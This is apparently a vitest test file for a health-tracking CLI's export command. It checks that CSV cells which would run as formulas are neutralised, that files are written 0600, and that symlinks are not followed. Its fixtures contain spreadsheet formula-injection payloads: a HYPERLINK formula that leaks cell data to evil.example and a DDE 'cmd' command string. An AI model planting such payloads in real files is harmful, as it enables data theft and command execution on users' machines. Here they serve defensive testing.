/**
 * Exports are safe to open and to write: CSV text cells that a spreadsheet would run as
 * formulas are neutralised (unless `--csv-raw`), numbers stay numbers, and every exported
 * file is written 0600 through a fresh temporary file that no planted symlink can redirect.
 */
import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { parseCsv } from '../helpers/csv.js';
import { dialects, useTestDb } from '../helpers/db.js';
import { seedUser } from '../helpers/seed.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const CMD = "+cmd|' /C calc'!A0";
const SUM = '@SUM(1+1)*cmd';
const ARITH = '-2+3';

const modeOf = (file: string) => fs.statSync(file).mode & 0o777;

for (const dialect of dialects) {
  describe(dialect, () => {
    const t = useTestDb(dialect);
    let userId = 0;
    beforeAll(async () => {
      userId = await seedUser(t.db, 'dana', { days: 2 });
      await t.db('health_metrics').insert({ user_id: userId, recorded_date: '2025-04-01', weight_kg: 80, weight_unit: 'kg', notes: SUM });
      await t.db('meal_logs').insert([
        { user_id: userId, meal_date: '2025-04-01', meal_type: 'lunch', description: HYPERLINK, notes: '\t=1+1' },
        { user_id: userId, meal_date: '2025-04-02', meal_type: 'lunch', description: CMD, notes: '-12.5' },
      ]);
      await t.db('user_goals').insert({
        user_id: userId, title: ARITH, goal_type: 'habit', metric: 'custom', start_value: -1, target_value: -5, current_value: -2, start_date: '2025-04-01', status: 'active',
      });
    });
    const run = (args: string[]) => runCli(args, { db: t.url, home: t.dir });

    it('puts a quote before text cells a spreadsheet would run as formulas', async () => {
      const meals = await run(['export', '--format', 'csv', '--what', 'meals']);
      expect(meals.code, meals.stderr).toBe(0);
      const rows = parseCsv(meals.stdout);
      const byDate = (d: string) => rows.find((r) => r.meal_date === d)!;
      expect(byDate('2025-04-01').description).toBe(`'${HYPERLINK}`);
      expect(byDate('2025-04-01').notes).toBe("'\t=1+1");
      expect(byDate('2025-04-02').description).toBe(`'${CMD}`);
      // Text that is only a number is not a formula: left as it is.
      expect(byDate('2025-04-02').notes).toBe('-12.5');
      // Nothing in the file starts a cell with a formula character.
      expect(meals.stdout).not.toMatch(/(^|,|")[=+@]/m);

      const health = parseCsv((await run(['export', '--format', 'csv', '--what', 'health'])).stdout);
      expect(health.find((r) => r.recorded_date === '2025-04-01')!.notes).toBe(`'${SUM}`);
    });

    it('keeps negative numbers in numeric columns as numbers', async () => {
      const r = await run(['export', '--format', 'csv', '--what', 'goals']);
      expect(r.code, r.stderr).toBe(0);
      const goal = parseCsv(r.stdout).find((g) => g.goal_type === 'habit')!;
      expect(goal.title).toBe(`'${ARITH}`);
      expect(goal).toMatchObject({ start_value: '-1', target_value: '-5', current_value: '-2' });
    });

    it('writes the text exactly with --csv-raw, in files too, and in JSON always', async () => {
      const raw = await run(['export', '--format', 'csv', '--what', 'meals', '--csv-raw']);
      expect(raw.code, raw.stderr).toBe(0);
      expect(parseCsv(raw.stdout).map((r) => r.description)).toEqual(expect.arrayContaining([HYPERLINK, CMD]));

      const dir = path.join(t.dir, 'csv-safe');
      expect((await run(['export', '--format', 'csv', '--output', dir])).code).toBe(0);
      expect(parseCsv(fs.readFileSync(path.join(dir, 'meal_logs.csv'), 'utf8')).map((r) => r.description)).toEqual(expect.arrayContaining([`'${HYPERLINK}`]));

      const json = await run(['export', '--format', 'json', '--what', 'meals']);
      expect(json.stdout).toContain(JSON.stringify(HYPERLINK));
      const warned = await run(['export', '--format', 'json', '--what', 'meals', '--csv-raw']);
      expect(warned.code).toBe(0);
      expect(warned.stderr).toContain('--csv-raw applies to CSV');
    });

    it('writes every export format 0600, whatever the umask', async () => {
      const dir = path.join(t.dir, 'modes');
      fs.mkdirSync(dir);
      const files: string[] = [];
      for (const [format, name] of [['json', 'all.json'], ['ndjson', 'all.ndjson'], ['csv', 'health.csv']] as const) {
        const file = path.join(dir, name);
        const r = await run(['export', '--format', format, ...(format === 'csv' ? ['--what', 'health'] : []), '--output', file]);
        expect(r.code, r.stderr).toBe(0);
        files.push(file);
      }
      const csvDir = path.join(dir, 'csv');
      expect((await run(['export', '--format', 'csv', '--output', csvDir])).code).toBe(0);
      files.push(...fs.readdirSync(csvDir).map((f) => path.join(csvDir, f)));
      const mdDir = path.join(dir, 'md');
      expect((await run(['export', '--format', 'md', '--output', mdDir])).code).toBe(0);
      files.push(...fs.readdirSync(mdDir).map((f) => path.join(mdDir, f)));
      expect(files.length).toBeGreaterThan(10);
      expect(Object.fromEntries(files.map((f) => [path.relative(dir, f), modeOf(f).toString(8)]))).toEqual(Object.fromEntries(files.map((f) => [path.relative(dir, f), '600'])));
      // No temporary file is left beside them.
      for (const d of [dir, csvDir, mdDir]) expect(fs.readdirSync(d).filter((f) => f.endsWith('.tmp') || f.includes('.tmp-'))).toEqual([]);
    });

    it('replaces a symlink at the output path instead of writing through it', async () => {
      const victim = path.join(t.dir, 'victim.txt');
      fs.writeFileSync(victim, 'precious\n');
      const out = path.join(t.dir, 'linked.csv');
      fs.symlinkSync(victim, out);
      const r = await run(['export', '--format', 'csv', '--what', 'health', '--output', out]);
      expect(r.code, r.stderr).toBe(0);
      expect(fs.readFileSync(victim, 'utf8')).toBe('precious\n');
      expect(fs.lstatSync(out).isSymbolicLink()).toBe(false);
      expect(modeOf(out)).toBe(0o600);
    });
  });
}
